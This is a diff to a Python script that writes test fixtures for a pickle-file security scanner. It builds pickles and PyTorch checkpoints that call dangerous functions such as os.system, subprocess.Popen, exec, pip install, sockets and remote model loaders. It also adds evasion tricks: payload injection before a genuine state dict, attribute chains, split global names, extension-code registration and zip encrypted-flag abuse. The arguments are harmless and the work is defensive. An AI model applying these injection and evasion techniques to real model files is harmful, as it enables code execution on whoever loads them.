@@ -1,17 +1,25 @@
 #!/usr/bin/env python3
 """Writes the pickle fixtures under tests/fixtures/pickles/ (Python 3 standard library only).
 
-Every pickle is written as hand-assembled opcodes, so nothing is imported or run: the
-"malicious" files only *name* dangerous globals. This script never unpickles anything
-(pickletools.dis, used as a self-check, only disassembles).
+The first fixtures are hand-assembled opcodes; the peer-class fixtures (issue 15) are written by
+Python's own pickler (pickle._Pickler) with `Named` stand-ins for the dangerous callables, so nothing
+dangerous is imported or run: the "malicious" files only *name* dangerous globals. This script never
+unpickles anything (pickletools.dis and genops, used as self-checks, only disassemble).
+It also writes manifest.json: each fixture with the verdict Hub Sentinel must give and its class.
 
 Usage: python3 scripts/make-pickle-fixtures.py [output-dir]
 """
+import enum
 import io
+import json
+import pickle
 import pickletools
+import random
 import struct
 import sys
+import types
 import zlib
+from dataclasses import dataclass, field
 from pathlib import Path
 
 OUT = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).resolve().parent.parent / "tests/fixtures/pickles"
@@ -114,8 +122,8 @@ def deflate_raw(data: bytes) -> bytes:
     return compressor.compress(data) + compressor.flush()
 
 
-def make_zip(members, zip64: bool = False) -> bytes:
-    """members: (name, data, method) with method 0 (stored) or 8 (deflated)."""
+def make_zip(members, zip64: bool = False, flags: int = 0x800) -> bytes:
+    """members: (name, data, method) with method 0 (stored) or 8 (deflated); flags: general-purpose bits."""
     out = bytearray()
     central = bytearray()
     version = 45 if zip64 else 20
@@ -134,10 +142,10 @@ def make_zip(members, zip64: bool = False) -> bytes:
             sizes = (len(comp), len(data))
             central_extra = b""
             central_offset = offset
-        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, version, 0x800, method, 0, 0x21, crc, sizes[0], sizes[1], len(raw_name), len(local_extra))
+        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, version, flags, method, 0, 0x21, crc, sizes[0], sizes[1], len(raw_name), len(local_extra))
         out += raw_name + local_extra + comp
         central += struct.pack(
-            "<IHHHHHHIIIHHHHHII", 0x02014B50, version, version, 0x800, method, 0, 0x21, crc, sizes[0], sizes[1],
+            "<IHHHHHHIIIHHHHHII", 0x02014B50, version, version, flags, method, 0, 0x21, crc, sizes[0], sizes[1],
             len(raw_name), len(central_extra), 0, 0, 0, 0, central_offset,
         )
         central += raw_name + central_extra
@@ -154,7 +162,7 @@ def make_zip(members, zip64: bool = False) -> bytes:
     return bytes(out)
 
 
-def torch_zip(data_pkl: bytes, prefix: str = "archive", zip64: bool = False, method: int = 0) -> bytes:
+def torch_zip(data_pkl: bytes, prefix: str = "archive", zip64: bool = False, method: int = 0, flags: int = 0x800) -> bytes:
     storage = struct.pack("<4f", 1.0, 2.0, 3.0, 4.0)
     return make_zip(
         [
@@ -166,6 +174,7 @@ def torch_zip(data_pkl: bytes, prefix: str = "archive", zip64: bool = False, met
             (f"{prefix}/.data/serialization_id", b"1234567890", method),
         ],
         zip64=zip64,
+        flags=flags,
     )
 
 
@@ -265,20 +274,236 @@ def fixtures():
     yield "not-a-pickle.bin", b"hello, this is text and not a pickle\n", "text bytes -> unknown (not a format the reader knows)"
 
 
+# ---- peer classes (issue 15): written by Python's pickler, never loaded -----------------------
+class Named:
+    """Stands for the callable `module.qualname`; the pickler below writes only its name. Never called."""
+
+    def __init__(self, module: str, qualname: str, ext: int = 0):
+        self.module, self.qualname, self.ext = module, qualname, ext
+
+    def __call__(self, *args):
+        raise AssertionError("a fixture stand-in is never called")
+
+
+class Call:
+    """`func(*args)` as the pickler writes it: the function's global, the arguments, REDUCE."""
+
+    def __init__(self, func, *args):
+        self.func, self.args = func, args
+
+    def __reduce__(self):
+        return self.func, self.args
+
+    def __call__(self, *args):
+        raise AssertionError("a fixture stand-in is never called")
+
+
+class FixturePickler(pickle._Pickler):
+    """Python's own pickler, which names a `Named` as a global (GLOBAL below protocol 4, STACK_GLOBAL from 4,
+    EXT1 for a registered extension code), as it does for any function it finds by name."""
+
+    dispatch = pickle._Pickler.dispatch.copy()
+
+    def save_named(self, obj: Named) -> None:
+        if obj.ext:
+            self.write(pickle.EXT1 + bytes([obj.ext]))
+        elif self.proto >= 4:
+            self.save(obj.module)
+            self.save(obj.qualname)
+            self.write(pickle.STACK_GLOBAL)
+        else:
+            self.write(pickle.GLOBAL + obj.module.encode() + b"\n" + obj.qualname.encode() + b"\n")
+        self.memoize(obj)
+
+    dispatch[Named] = save_named
+
+
+def dumps(obj, protocol: int) -> bytes:
+    out = io.BytesIO()
+    FixturePickler(out, protocol).dump(obj)
+    return check(out.getvalue())
+
+
+def inject(payload: Call, into: bytes) -> bytes:
+    """The payload run first, its result dropped (POP), then the real pickle: how fickling's benchmark and
+    JFrog's finds put a call into a genuine checkpoint, which still loads as its state dict."""
+    assert into[:2] == proto(2)
+    body = dumps(payload, 2)[2:-1]
+    # The real pickle reuses memo keys the payload wrote: legal (the unpickler overwrites), refused by dis.
+    return check(proto(2) + body + POP + into[2:], strict=False)
+
+
+# (fixture stem, class, call, source). Each is written as a plain pickle and injected into a PyTorch zip.
+PEER_CLASSES = [
+    ("torch-hub-load", "remote model", Call(Named("torch.hub", "load"), "attacker/repo", "model"), "issue 15 (torch.hub.load)"),
+    ("torch-hub-state-dict-url", "remote model", Call(Named("torch.hub", "load_state_dict_from_url"), "https://example.invalid/w.pt"), "issue 15"),
+    ("model-zoo-load-url", "remote model", Call(Named("torch.utils.model_zoo", "load_url"), "https://example.invalid/w.pt"), "ours"),
+    ("http-client", "network", Call(Named("http.client", "HTTPSConnection"), "example.invalid"), "issue 15 (http.client)"),
+    ("httplib", "network", Call(Named("httplib", "HTTPConnection"), "example.invalid"), "picklescan list (httplib)"),
+    ("urllib-urlopen", "network", Call(Named("urllib.request", "urlopen"), "https://example.invalid/"), "picklescan list"),
+    ("urllib2", "network", Call(Named("urllib2", "urlopen"), "https://example.invalid/"), "fickling list"),
+    ("requests-get", "network", Call(Named("requests", "get"), "https://example.invalid/"), "fickling list"),
+    ("requests-api", "network", Call(Named("requests.api", "post"), "https://example.invalid/", "data"), "picklescan list"),
+    ("aiohttp", "network", Call(Named("aiohttp", "request"), "GET", "https://example.invalid/"), "picklescan list"),
+    ("ftplib", "network", Call(Named("ftplib", "FTP"), "example.invalid"), "fickling list"),
+    ("smtplib", "network", Call(Named("smtplib", "SMTP"), "example.invalid"), "fickling list"),
+    ("telnetlib", "network", Call(Named("telnetlib", "Telnet"), "example.invalid"), "fickling list"),
+    ("xmlrpc", "network", Call(Named("xmlrpc.client", "ServerProxy"), "https://example.invalid/"), "fickling list"),
+    ("socketserver", "network", Call(Named("socketserver", "TCPServer"), ("0.0.0.0", 4444), None), "fickling list"),
+    ("socket", "network", Call(Named("socket", "create_connection"), ("example.invalid", 4444)), "picklescan list"),
+    ("webbrowser", "network", Call(Named("webbrowser", "open"), "https://example.invalid/"), "picklescan list"),
+    ("runstring-joined", "split path", Call(Named("numpy.testing._private.utils", "runstring"), "1+1", {}), "picklescan list"),
+    ("runstring-split", "split path", Call(Named("numpy.testing", "_private.utils.runstring"), "1+1", {}), "issue 15 (STACK_GLOBAL split)"),
+    ("runstring-split-top", "split path", Call(Named("numpy", "testing._private.utils.runstring"), "1+1", {}), "issue 15 (STACK_GLOBAL split)"),
+    ("attribute-chain-os", "attribute chain", Call(Named("torch.serialization", "os.system"), "true"), "GHSA-5j3x-jp52-966f"),
+    ("dunder-globals", "attribute chain", Call(Named("torch._utils", "_rebuild_tensor_v2.__globals__.get"), "os"), "ours"),
+    ("pip-main", "installs code", Call(Named("pip", "main"), ["install", "attacker-package"]), "picklescan list"),
+    ("ensurepip", "installs code", Call(Named("ensurepip", "_run_pip"), ["install", "x"]), "GHSA-xp4f-hrf8-rxw7"),
+    ("pkgutil-resolve", "imports by name", Call(Named("pkgutil", "resolve_name"), "os:system"), "GHSA-vvpj-8cmc-gx39"),
+    ("pydoc-locate", "imports by name", Call(Named("pydoc", "locate"), "os.system"), "picklescan list"),
+    ("importlib", "imports by name", Call(Named("importlib", "import_module"), "os"), "fickling list"),
+    ("builtins-import", "imports by name", Call(Named("builtins", "__import__"), "os"), "fickling list"),
+    ("code-interact", "evaluates code", Call(Named("code", "InteractiveInterpreter.runcode"), None, "1+1"), "picklescan list"),
+    ("codeop", "evaluates code", Call(Named("codeop", "compile_command"), "1+1"), "fickling list"),
+    ("bdb-run", "evaluates code", Call(Named("bdb", "Bdb.run"), None, "1+1"), "picklescan list"),
+    ("pdb-run", "evaluates code", Call(Named("pdb", "run"), "1+1"), "picklescan list"),
+    ("cprofile-run", "evaluates code", Call(Named("cProfile", "run"), "1+1"), "GHSA-9w88-8rmg-7g2p"),
+    ("timeit", "evaluates code", Call(Named("timeit", "timeit"), "1+1", "pass", None, 1), "GHSA-v7x6-rv5q-mhwc"),
+    ("trace-run", "evaluates code", Call(Named("trace", "Trace.run"), None, "1+1"), "picklescan list"),
+    ("doctest-debug", "evaluates code", Call(Named("doctest", "debug_script"), "1+1"), "GHSA-fqq6-7vqf-w3fg"),
+    ("idlelib-runcode", "evaluates code", Call(Named("idlelib.pyshell", "ModifiedInterpreter.runcode"), None, "1+1"), "GHSA-3gf5-cxq9-w223"),
+    ("lib2to3-make-label", "evaluates code", Call(Named("lib2to3.pgen2.pgen", "ParserGenerator.make_label"), None, None, "'x'"), "GHSA-p9w7-82w4-7q8m"),
+    ("dynamo-guard", "evaluates code", Call(Named("torch._dynamo.guards", "GuardBuilder.get"), None, "1+1"), "GHSA-86cj-95qr-2p4f"),
+    ("collect-env", "runs a command", Call(Named("torch.utils.collect_env", "run"), "true"), "GHSA-f745-w6jp-hpxx"),
+    ("exec-wrapper", "evaluates code", Call(Named("torch.jit.unsupported_tensor_ops", "execWrapper"), "1+1", {}, {}), "GHSA-vr7h-p6mm-wpmh"),
+    ("shutil-rmtree", "files", Call(Named("shutil", "rmtree"), "/nonexistent-fixture-path"), "picklescan list"),
+    ("asyncio-subprocess", "runs a command", Call(Named("asyncio", "create_subprocess_shell"), "true"), "picklescan list"),
+    ("ctypes-cdll", "native code", Call(Named("ctypes", "CDLL"), "libc.so.6"), "picklescan list"),
+    ("marshal-loads", "bytecode", Call(Named("marshal", "loads"), b"\xe3"), "fickling list"),
+    ("function-type", "bytecode", Call(Named("types", "FunctionType"), None, {}), "ours"),
+    ("sys-modules", "interpreter", Call(Named("sys", "modules.get"), "os"), "picklescan list"),
+    ("getattr-chain", "attribute", Call(Named("builtins", "getattr"), None, "system"), "picklescan list"),
+    ("pickle-loads", "nested pickle", Call(Named("_pickle", "loads"), b"N."), "picklescan list"),
+    ("torch-load", "nested pickle", Call(Named("torch", "load"), "other.pt"), "ours"),
+    ("attrgetter", "attribute", Call(Named("operator", "attrgetter"), "system"), "picklescan list"),
+    ("functools-partial", "calls a function", Call(Named("functools", "partial"), None, "true"), "picklescan list"),
+    ("posix-system", "runs a command", Call(Named("posix", "system"), "true"), "picklescan list"),
+    ("subprocess-popen", "runs a command", Call(Named("subprocess", "Popen"), ["true"]), "picklescan list"),
+    ("posixsubprocess", "runs a command", Call(Named("_posixsubprocess", "fork_exec"), ["true"]), "fickling list (CVE-2025-10157)"),
+]
+
+
+def training_args_pickle(protocol: int, enum_by_name: bool = False) -> bytes:
+    """A training_args.bin-shaped object: a dataclass of plain fields and enums, with the module and class
+    names transformers uses (stand-in classes under those names, registered only while pickling).
+    enum_by_name: members pickled as getattr(Class, "NAME"), as Python >= 3.12's Enum.__reduce_ex__ does."""
+    modules = {name: types.ModuleType(name) for name in ("transformers", "transformers.training_args", "transformers.trainer_utils")}
+
+    class IntervalStrategy(str, enum.Enum):
+        NO = "no"
+        STEPS = "steps"
+
+    class SchedulerType(str, enum.Enum):
+        LINEAR = "linear"
+
+    @dataclass
+    class TrainingArguments:
+        output_dir: str = "out"
+        learning_rate: float = 5e-5
+        num_train_epochs: float = 3.0
+        eval_strategy: IntervalStrategy = IntervalStrategy.STEPS
+        lr_scheduler_type: SchedulerType = SchedulerType.LINEAR
+        report_to: list = field(default_factory=lambda: ["none"])
+
+    if enum_by_name:
+        for cls in (IntervalStrategy, SchedulerType):
+            cls.__reduce_ex__ = lambda self, proto: (getattr, (self.__class__, self._name_))
+    for cls, module in ((TrainingArguments, "transformers.training_args"), (IntervalStrategy, "transformers.trainer_utils"), (SchedulerType, "transformers.trainer_utils")):
+        cls.__module__ = module
+        cls.__qualname__ = cls.__name__
+        setattr(modules[module], cls.__name__, cls)
+    saved = {name: sys.modules.get(name) for name in modules}
+    sys.modules.update(modules)
+    try:
+        return dumps(TrainingArguments(), protocol)
+    finally:
+        for name, module in saved.items():
+            if module is None:
+                sys.modules.pop(name, None)
+            else:
+                sys.modules[name] = module
+
+
+def peer_fixtures():
+    """Yields (name, bytes, description, class, source) for the peer classes of issue 15."""
+    benign = torch_state_dict()
+    for stem, klass, payload, source in PEER_CLASSES:
+        name = f"{payload.func.module}.{payload.func.qualname}"
+        yield f"peer-{stem}.pkl", dumps(payload, 4), f"protocol 4 pickle calling {name} -> dangerous", klass, source
+        yield f"peer-{stem}-torch.pt", torch_zip(inject(payload, benign)), f"PyTorch zip: the two-tensor state dict with {name} injected before it -> dangerous", klass, source
+
+    # Protocol 0-2 spellings of the same classes (GLOBAL, Python 2 names renamed by the unpickler).
+    yield "peer-httplib-proto0.pkl", dumps(Call(Named("httplib", "HTTPConnection"), "example.invalid"), 0), "protocol 0 GLOBAL httplib.HTTPConnection -> dangerous", "network", "picklescan list"
+    yield "peer-cpickle-proto1.pkl", dumps(Call(Named("cPickle", "loads"), "N."), 1), "protocol 1 GLOBAL cPickle.loads (pickle.loads in Python 3) -> dangerous", "nested pickle", "ours"
+    # EXT: copyreg.add_extension registers os.system under code 0x7f, then EXT1 0x7f imports it.
+    registered = dumps([Call(Named("copyreg", "add_extension"), "os", "system", 0x7F), Call(Named("os", "system", ext=0x7F), "true")], 2)
+    yield "peer-ext-registry.pkl", registered, "copyreg.add_extension(os, system, 127) then EXT1 127 -> dangerous", "EXT opcodes", "ours"
+    # A payload behind the zip 'encrypted' flag, stored in the clear: PyTorch loads it, zipfile refuses.
+    evil = inject(Call(Named("builtins", "exec"), HARMLESS), benign)
+    yield "peer-encrypted-flag-torch.pt", torch_zip(evil, flags=0x801), "PyTorch zip whose entries set the encrypted flag over data stored in the clear; data.pkl calls builtins.exec -> dangerous", "zip encrypted flag", "issue 15"
+    yield "peer-encrypted-flag-benign.pt", torch_zip(benign, flags=0x801), "the benign PyTorch zip with the encrypted flag set over clear data -> clean", "zip encrypted flag", "issue 15"
+    enc = bytearray(make_zip([("archive/data.pkl", bytes(12) + benign, 0)], flags=0x801))
+    yield "peer-really-encrypted.zip", bytes(enc), "a stored member with a 12-byte encryption header (sizes differ by 12): really encrypted -> unknown", "zip encrypted flag", "ours"
+    two = make_zip([("archive/data.pkl", benign, 0), ("archive/version", b"3\n", 0), ("other/data.pkl", call("posix", "system", "true"), 0)])
+    yield "peer-two-data-pkl.pt", two, "zip with two data.pkl members, the second calling posix.system -> dangerous", "multiple data.pkl", "ours"
+    inner = torch_zip(inject(Call(Named("posix", "system"), "true"), benign))
+    yield "peer-nested-torch.zip", make_zip([("checkpoint/model.pt", inner, 8)]), "zip holding a deflated PyTorch zip with an injected posix.system -> dangerous", "nested zip", "ours"
+
+    # Benign: things real repos hold, which must not be above clean.
+    yield "benign-training-args.bin", training_args_pickle(2), "training_args.bin-shaped: TrainingArguments dataclass with enums, protocol 2 -> clean", "benign", "ours"
+    yield "benign-training-args-p4.bin", training_args_pickle(4), "the same at protocol 4 (STACK_GLOBAL, framing) -> clean", "benign", "ours"
+    yield "benign-training-args-py312.bin", training_args_pickle(2, enum_by_name=True), "training_args.bin as Python 3.12 writes it: enums as builtins.getattr(Class, 'NAME'), never called -> clean", "benign", "ours"
+    yield "benign-training-args-py312-p4.bin", training_args_pickle(4, enum_by_name=True), "the same at protocol 4 -> clean", "benign", "ours"
+    called = Call(Call(getattr, Named("collections", "OrderedDict"), "fromkeys"), ["a"])
+    yield "peer-getattr-result-called.pkl", dumps(called, 4), "getattr(collections.OrderedDict, 'fromkeys') whose result is then called -> dangerous", "attribute", "picklescan list (getattr)"
+    yield "peer-getattr-result-called-torch.pt", torch_zip(inject(called, benign)), "the called getattr result injected into a PyTorch zip -> dangerous", "attribute", "picklescan list (getattr)"
+    nested = Call(Call(getattr, Call(getattr, Named("torch", "serialization"), "os"), "system"), "true")
+    yield "peer-getattr-nested.pkl", dumps(nested, 2), "getattr(getattr(torch.serialization, 'os'), 'system')('true') -> dangerous", "attribute", "picklescan list (getattr)"
+    yield "peer-getattr-nested-torch.pt", torch_zip(inject(nested, benign)), "the nested getattr call injected into a PyTorch zip -> dangerous", "attribute", "picklescan list (getattr)"
+    param = proto(2) + global_("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + binunicode("w")
+    param += global_("torch._utils", "_rebuild_parameter") + tensor("0", 4, {}) + NEWTRUE + global_("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + TUPLE3 + REDUCE + SETITEM + STOP
+    yield "benign-parameter-torch.pt", torch_zip(check(param)), "PyTorch zip of a state dict holding an nn.Parameter (torch._utils._rebuild_parameter) -> clean", "benign", "ours"
+    rng = random.Random(15)
+    noise = bytes([0x63]) + bytes([0xFF, 0xFE]) + bytes(rng.randrange(256) for _ in range(4093))
+    yield "not-a-pickle-c.bin", noise, "raw bytes whose first byte is 'c' (GLOBAL) followed by bytes that are not UTF-8 -> unknown (not a pickle)", "non-pickle bytes", "issue 15"
+    yield "raw-float32.bin", struct.pack("<1024f", *[rng.uniform(-1, 1) for _ in range(1024)]), "raw float32 tensor bytes in a .bin -> unknown (not a pickle)", "non-pickle bytes", "ours"
+    yield "int64.npy", npy("'<i8'", "(3, 2)", struct.pack("<6q", 1, 2, 3, 4, 5, 6)), ".npy of int64 -> clean", "benign", "ours"
+    numeric = [("w.npy", npy("'<f4'", "(4,)", struct.pack("<4f", 1, 2, 3, 4))), ("b.npy", npy("'<i8'", "(2,)", struct.pack("<2q", 7, 8)))]
+    yield "numeric.npz", make_zip([(n, d, 0) for n, d in numeric]), "npz (stored) of two numeric arrays -> clean", "benign", "ours"
+    yield "numeric-deflated.npz", make_zip([(n, d, 8) for n, d in numeric]), "npz (deflated, savez_compressed) of two numeric arrays -> clean", "benign", "ours"
+
+
 def main() -> None:
     OUT.mkdir(parents=True, exist_ok=True)
     lines = [
         "# Pickle fixtures",
         "",
-        "Generated by `python3 scripts/make-pickle-fixtures.py` from hand-written opcodes: nothing here was",
-        "produced by running the code it names, and no test ever unpickles these files. Regenerate, do not edit.",
+        "Generated by `python3 scripts/make-pickle-fixtures.py`: hand-written opcodes, and (peer classes, issue 15)",
+        "Python's own pickler naming stand-ins. Nothing here was produced by running the code it names, and no test",
+        "ever unpickles these files. `manifest.json` gives each file's expected verdict. Regenerate, do not edit.",
         "",
     ]
-    for name, data, description in fixtures():
+    manifest = []
+    entries = [(n, d, t, "", "") for n, d, t in fixtures()] + list(peer_fixtures())
+    for name, data, description, klass, source in entries:
         (OUT / name).write_bytes(data)
         lines.append(f"- `{name}` ({len(data)} bytes): {description}")
+        expect = description.rsplit("-> ", 1)[1].split()[0]
+        assert expect in ("clean", "dangerous", "unknown", "suspicious"), name
+        manifest.append({"file": name, "expect": expect, **({"class": klass} if klass else {}), **({"source": source} if source else {})})
     (OUT / "README.md").write_text("\n".join(lines) + "\n")
-    print(f"wrote {len(lines) - 5} fixtures to {OUT}")
+    (OUT / "manifest.json").write_text(json.dumps(manifest, indent=1) + "\n")
+    print(f"wrote {len(entries)} fixtures to {OUT}")
 
 
 if __name__ == "__main__":
